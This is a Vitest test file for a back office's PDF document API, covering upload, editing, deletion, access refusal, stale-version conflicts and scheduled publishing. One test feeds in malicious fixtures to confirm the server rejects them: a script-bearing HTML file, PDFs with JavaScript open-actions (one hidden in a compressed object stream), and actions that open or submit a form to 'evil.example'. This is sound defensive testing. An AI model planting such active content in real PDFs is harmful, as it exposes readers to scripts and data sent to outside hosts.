/**
 * The back office's documents (decision 039): staff and admins upload, edit and delete PDFs; everyone else is refused
 * with nothing written; a file that is not a PDF, too large or with active content is a 400 with nothing written; a
 * stale version is a 409; a document published in the future stays hidden from the public until its time.
 */

import { deflateSync } from 'node:zlib'
import type { AdminDocument, AdminDocuments, AuditEntry, DocumentDto } from '@podium/domain'
import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loginCookie } from '../src/features/accounts/test-session.ts'
import { TEST_NOW } from './constants.ts'
import { createTestApp, movableClock, queryRows, type TestApp } from './helpers.ts'

const clock = movableClock(TEST_NOW)
let t: TestApp
let staff: Record<string, string>
let admin: Record<string, string>
let athlete: Record<string, string>
let volunteer: Record<string, string>

beforeAll(async () => {
  t = await createTestApp({ clock: clock.clock })
  staff = { cookie: await loginCookie(t, 'demo-staff') }
  admin = { cookie: await loginCookie(t, 'demo-admin') }
  athlete = { cookie: await loginCookie(t, 'demo-athlete') }
  volunteer = { cookie: await loginCookie(t, 'demo-volunteer') }
})
afterAll(() => t.close())

/** A small PDF, its body text given. */
const pdf = (body = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj') =>
  new TextEncoder().encode(`%PDF-1.4\n${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`)

const notice = {
  kind: 'communication',
  titles: { pt: 'Informativo de teste – piscina', en: 'Test communication – pool' },
  disciplineCode: 'SWM',
  priority: 2,
  publishedAt: '2026-07-14T12:00:00.000Z',
}

function upload(
  metadata: unknown,
  file: Uint8Array | null,
  headers: Record<string, string>,
  method = 'POST',
  name = 'aviso-piscina.pdf',
): RequestInit {
  const body = new FormData()
  body.set('metadata', JSON.stringify(metadata))
  if (file) body.set('file', new File([file], name, { type: 'application/pdf' }))
  return { method, body, headers }
}

const publicCommunications = async (lang: string) =>
  ((await (await t.request(`/api/v1/documents?kind=communication&lang=${lang}`)).json()) as { items: DocumentDto[] })
    .items

const documentCount = async () =>
  Number((await queryRows<{ n: number }>(t.db.database, sql`select count(*)::int as n from documents`))[0]?.n)
const liveCount = async () =>
  Number(
    (
      await queryRows<{ n: number }>(
        t.db.database,
        sql`select count(*)::int as n from live_events where kind = 'content'`,
      )
    )[0]?.n,
  )

const auditOf = async (id: number) => {
  const res = await t.request(`/api/v1/audit-log?entity=document&entityId=${id}`, { headers: staff })
  return ((await res.json()) as { entries: AuditEntry[] }).entries
}

const errorOf = async (res: Response) =>
  ((await res.json()) as { error: { code: string; fields?: Record<string, string[]> } }).error

describe('documents in the back office', () => {
  it('staff upload, edit and delete a PDF; the public list, the file, the audit log and the live journal follow', async () => {
    await publicCommunications('pt') // warms the read model, which a write must drop
    const created = await t.request('/api/v1/admin/documents', upload(notice, pdf(), staff))
    expect(created.status).toBe(201)
    const doc = (await created.json()) as AdminDocument
    expect(doc).toMatchObject({
      version: 1,
      scheduled: false,
      fileName: 'aviso-piscina.pdf',
      sizeBytes: pdf().byteLength,
      titles: { pt: notice.titles.pt, en: notice.titles.en, es: '', az: '' },
      missing: ['es', 'az'],
    })

    expect((await publicCommunications('pt')).map((d) => d.title)).toContain(notice.titles.pt)
    expect((await publicCommunications('en')).map((d) => d.title)).toContain(notice.titles.en)
    const file = await t.request(doc.url)
    expect(file.status).toBe(200)
    expect(file.headers.get('content-type')).toBe('application/pdf')
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(pdf())

    // An edit without a file keeps the stored one; with one, replaces it (and its ETag).
    const edit = { ...notice, titles: { ...notice.titles, es: 'Comunicado de prueba' }, priority: 1, version: 1 }
    const updated = await t.request(`/api/v1/admin/documents/${doc.id}`, upload(edit, null, staff, 'PUT'))
    expect(updated.status).toBe(200)
    expect((await updated.json()) as AdminDocument).toMatchObject({ version: 2, priority: 1, fileName: doc.fileName })
    expect(new Uint8Array(await (await t.request(doc.url)).arrayBuffer())).toEqual(pdf())
    const newer = pdf('1 0 obj << /Type /Catalog /Title (v3) >> endobj')
    const replaced = await t.request(
      `/api/v1/admin/documents/${doc.id}`,
      upload({ ...edit, version: 2 }, newer, staff, 'PUT', 'aviso-v3.pdf'),
    )
    const v3 = (await replaced.json()) as AdminDocument
    expect(v3).toMatchObject({ version: 3, fileName: 'aviso-v3.pdf', sizeBytes: newer.byteLength })
    const again = await t.request(v3.url, { headers: { 'If-None-Match': file.headers.get('etag') ?? '' } })
    expect(again.status).toBe(200)
    expect(new Uint8Array(await again.arrayBuffer())).toEqual(newer)
    expect((await t.request(doc.url)).status).toBe(404) // the old name is gone

    const deleted = await t.request(`/api/v1/admin/documents/${doc.id}?version=3`, {
      method: 'DELETE',
      headers: admin,
    })
    expect(deleted.status).toBe(204)
    expect((await publicCommunications('pt')).map((d) => d.id)).not.toContain(doc.id)
    expect((await t.request(v3.url)).status).toBe(404)

    const audit = await auditOf(doc.id)
    expect(audit.map((e) => [e.action, e.actor])).toEqual([
      ['document.delete', 'demo-admin'],
      ['document.update', 'demo-staff'],
      ['document.update', 'demo-staff'],
      ['document.create', 'demo-staff'],
    ])
    expect(audit[3]?.after).toMatchObject({ fileName: 'aviso-piscina.pdf', version: 1 })
    expect(JSON.stringify(audit)).not.toContain('content')
    const events = await queryRows<{ payload: { id: number; change: string } }>(
      t.db.database,
      sql`select payload from live_events where kind = 'content' order by id`,
    )
    expect(events.filter((e) => e.payload.id === doc.id).map((e) => e.payload.change)).toEqual([
      'created',
      'updated',
      'updated',
      'deleted',
    ])
  })

  it('lists for managers with search, kind filter and paging, without the bytes', async () => {
    const res = await t.request('/api/v1/admin/documents?kind=official-report&pageSize=2', { headers: staff })
    expect(res.status).toBe(200)
    expect(res.headers.get('cache-control')).toBe('private, no-store')
    const page = (await res.json()) as AdminDocuments
    expect(page.items).toHaveLength(2)
    expect(page.total).toBeGreaterThan(2)
    expect(page.items.every((d) => d.kind === 'official-report')).toBe(true)
    expect(Object.keys(page.items[0] ?? {})).not.toContain('content')
    const second = (await (
      await t.request('/api/v1/admin/documents?kind=official-report&pageSize=2&page=2', { headers: staff })
    ).json()) as AdminDocuments
    expect(second.items.map((d) => d.id)).not.toEqual(page.items.map((d) => d.id))
    const found = (await (
      await t.request(`/api/v1/admin/documents?q=${encodeURIComponent('Official report – Day 2')}`, { headers: staff })
    ).json()) as AdminDocuments
    expect(found.items.map((d) => d.titles.pt)).toEqual(['Relatório oficial – Dia 2'])
  })

  it('refuses athletes, volunteers and visitors (401/403), writing nothing', async () => {
    const before = [await documentCount(), await liveCount()]
    for (const headers of [athlete, volunteer]) {
      expect((await t.request('/api/v1/admin/documents', { headers })).status).toBe(403)
      expect((await t.request('/api/v1/admin/documents', upload(notice, pdf(), headers))).status).toBe(403)
    }
    expect((await t.request('/api/v1/admin/documents', upload(notice, pdf(), {}))).status).toBe(401)
    expect([await documentCount(), await liveCount()]).toEqual(before)
  })

  it('refuses a file that is not a PDF by content, one over 10 MB and one with scripts (400), writing nothing', async () => {
    const before = [await documentCount(), await liveCount()]
    const html = new TextEncoder().encode('<html><script>alert(1)</script></html>')
    const notPdf = await t.request('/api/v1/admin/documents', upload(notice, html, staff, 'POST', 'trap.pdf'))
    expect(notPdf.status).toBe(400)
    expect((await errorOf(notPdf)).fields).toEqual({ file: ['The file is not a PDF'] })

    const big = new Uint8Array(10 * 1024 * 1024 + 1).fill(32)
    big.set(pdf(), 0)
    const tooLarge = await t.request('/api/v1/admin/documents', upload(notice, big, staff))
    expect(tooLarge.status).toBe(400)
    expect((await errorOf(tooLarge)).fields).toEqual({ file: ['The file is larger than 10 MB'] })
    const huge = new Uint8Array(11 * 1024 * 1024).fill(32)
    huge.set(pdf(), 0)
    expect((await t.request('/api/v1/admin/documents', upload(notice, huge, staff))).status).toBe(413)

    const script = pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj')
    const active = await t.request('/api/v1/admin/documents', upload(notice, script, staff))
    expect(active.status).toBe(400)
    expect((await errorOf(active)).fields?.file).toEqual([
      'The PDF contains active content (scripts, launch actions or embedded files)',
    ])

    // Issue 37: a script inside a compressed object stream, a URI opened on opening, a form that submits.
    const objects = deflateSync(new TextEncoder().encode('<< /S /JavaScript /JS (app.alert(1)) >>'))
    const head = new TextEncoder().encode(
      `%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`,
    )
    const tail = new TextEncoder().encode('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n')
    const packed = new Uint8Array([...head, ...objects, ...tail])
    for (const file of [
      packed,
      pdf('1 0 obj << /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example) >> >> endobj'),
      pdf('1 0 obj << /S /SubmitForm /F (https://evil.example/collect) >> endobj'),
    ]) {
      const refused = await t.request('/api/v1/admin/documents', upload(notice, file, staff))
      expect(refused.status).toBe(400)
      expect((await errorOf(refused)).fields?.file).toHaveLength(1)
    }

    const noFile = await t.request('/api/v1/admin/documents', upload(notice, null, staff))
    expect((await errorOf(noFile)).fields).toEqual({ file: ['Choose a PDF file'] })
    const badMeta = await t.request(
      '/api/v1/admin/documents',
      upload({ ...notice, titles: { pt: 'A <b>' }, priority: 9 }, pdf(), staff),
    )
    expect(badMeta.status).toBe(400)
    expect((await errorOf(badMeta)).fields).toEqual({
      'titles.pt': ['Text must not contain < or >'],
      priority: ['Priority must be between 1 and 5'],
    })
    const json = await t.request('/api/v1/admin/documents', {
      method: 'POST',
      headers: { ...staff, 'content-type': 'application/json' },
      body: JSON.stringify(notice),
    })
    expect(json.status).toBe(415)
    expect([await documentCount(), await liveCount()]).toEqual(before)
  })

  it('refuses a second editor working on a stale version (409), writing nothing', async () => {
    const doc = (await (
      await t.request('/api/v1/admin/documents', upload(notice, pdf(), staff))
    ).json()) as AdminDocument
    const first = { ...notice, titles: { pt: 'Primeira edição' }, version: 1 }
    const second = { ...notice, titles: { pt: 'Segunda edição' }, version: 1 }
    expect((await t.request(`/api/v1/admin/documents/${doc.id}`, upload(first, null, staff, 'PUT'))).status).toBe(200)
    const stale = await t.request(`/api/v1/admin/documents/${doc.id}`, upload(second, pdf(), admin, 'PUT'))
    expect(stale.status).toBe(409)
    expect((await errorOf(stale)).code).toBe('conflict')
    const staleDelete = await t.request(`/api/v1/admin/documents/${doc.id}?version=1`, {
      method: 'DELETE',
      headers: admin,
    })
    expect(staleDelete.status).toBe(409)
    expect((await publicCommunications('pt')).map((d) => d.title)).toContain('Primeira edição')
    expect((await auditOf(doc.id)).map((e) => e.action)).toEqual(['document.update', 'document.create'])
  })

  it('keeps a scheduled document from the public list and its file until its time on the games clock', async () => {
    const inAnHour = new Date(TEST_NOW.getTime() + 60 * 60_000).toISOString()
    const res = await t.request(
      '/api/v1/admin/documents',
      upload({ ...notice, titles: { pt: 'Aviso agendado' }, publishedAt: inAnHour }, pdf(), staff),
    )
    const doc = (await res.json()) as AdminDocument
    expect(doc.scheduled).toBe(true)
    expect((await publicCommunications('pt')).map((d) => d.id)).not.toContain(doc.id)
    expect((await t.request(doc.url)).status).toBe(404)
    const listed = (await (
      await t.request('/api/v1/admin/documents?q=agendado', { headers: staff })
    ).json()) as AdminDocuments
    expect(listed.items.map((d) => [d.id, d.scheduled])).toEqual([[doc.id, true]])

    clock.advance(60 * 60_000 + 31_000) // past its time and the list's 30 s read model
    expect((await publicCommunications('pt')).map((d) => d.id)).toContain(doc.id)
    expect((await t.request(doc.url)).status).toBe(200)
  })
})
